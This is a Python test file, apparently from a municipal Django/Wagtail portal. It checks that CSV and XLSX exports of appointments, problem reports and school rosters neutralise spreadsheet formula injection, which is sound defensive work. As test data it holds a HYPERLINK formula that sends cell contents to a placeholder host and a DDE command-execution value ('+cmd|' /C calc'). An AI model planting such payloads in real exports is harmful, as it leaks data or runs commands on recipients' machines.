"""Exports cannot carry formulas (issue 24): one writer for the project, OWASP's rule on cells, numbers kept; the
agenda's CSV, Wagtail's own CSV export (problem reports) and the schools' roster, each with a formula-leading value."""

import pathlib
import re

from django.utils import timezone

import pytest

from services.core.exports import csv_text, safe_cell, xlsx_bytes

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Apri")'


@pytest.mark.parametrize("value", [FORMULA, "+39 333", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1+1"])
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12,50", "-3", "+3", "1.234,56", "-0.5", 12, -4, None, "Rossi", "€ -5,00"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_and_xlsx_of_the_same_rows():
    text = csv_text(["Nome", "Importo"], [[FORMULA, "-12,50"]])
    assert text.startswith("\ufeff") and f"'{FORMULA}".replace('"', '""') in text and ";-12,50" in text
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx_bytes(["Nome"], [[FORMULA], [-3]]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == FORMULA and sheet["A3"].value == -3


def test_no_module_writes_csv_but_the_core():
    """One writer: a new export that used csv.writer directly would skip the rule."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for folder in ("services", "home", "search", "config") for p in (root / folder).rglob("*.py")
                 if re.search(r"csv\.(writer|DictWriter)\(", p.read_text()) and p.name != "exports.py"]
    assert offenders == []


def test_the_agenda_csv_neutralises_a_citizens_name(client, calendars):
    from services.appointments import actions
    from services.appointments.models import AppointmentType
    from tests.istanze.helpers import make_operator

    kind = AppointmentType.objects.get(title="Richiesta di rimborso del credito")
    office = kind.offices.get()
    slot = actions.next_free(kind, office, limit=1)[0]
    actions.book(slot_id=slot.pk, session_key="s", reason="@cmd", address_proven=True,
                 applicant={"first_name": FORMULA, "last_name": "-Neri", "email": "ada@example.it"})
    client.force_login(make_operator("sara", "ufficio-scuola"))
    day = timezone.localdate(slot.starts_at).isoformat()
    text = client.get(f"/admin/appuntamenti/agenda/?ufficio={office.pk}&giorno={day}&formato=csv").content.decode("utf-8-sig")
    row = next(line for line in text.splitlines() if "Neri" in line)
    cells = row.split(";")
    assert "'-Neri" in cells and "'@cmd" in cells and any(c.startswith('"\'=HYPERLINK') for c in cells)


def test_wagtails_own_csv_export_is_neutralised_too(client, superuser, db):
    from home.models.feedback import InefficiencyReport

    InefficiencyReport.objects.create(category="altro", description=FORMULA, page_url="+cmd|' /C calc'!A0")
    client.force_login(superuser)
    response = client.get("/admin/segnalazioni/?export=csv")
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    assert "HYPERLINK" in text and "\"'=HYPERLINK" in text and "'+cmd" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.M)


def test_the_schools_oepac_roster_neutralises_a_pupils_name(client, registries):
    from services.oepac.models import Enrollment
    from services.schools import actions
    from services.schools.models import School
    from tests.factories import IstanzaFactory, UserFactory
    from tests.istanze.helpers import spid_login

    school = School.objects.get(code="ANEE81001D")
    head = UserFactory(fiscal_code="SPSGLI75L65F839U", username="SPSGLI75L65F839U")
    actions.master_activate(school=school, fiscal_code=head.fiscal_code, user=head)
    owner = UserFactory()
    istanza = IstanzaFactory(owner=owner, procedure_code="OEPAC", status="accolta", number="OEPAC_2026.0000099")
    Enrollment.objects.create(istanza=istanza, owner=owner, pupil_fiscal_code="PPL0000000000001", pupil_name=FORMULA,
                              school=school, school_year="2026/2027")
    spid_login(client, head)
    text = client.get("/area-personale/scuola/ANEE81001D/oepac/csv/").content.decode("utf-8-sig")
    assert "\"'=HYPERLINK" in text
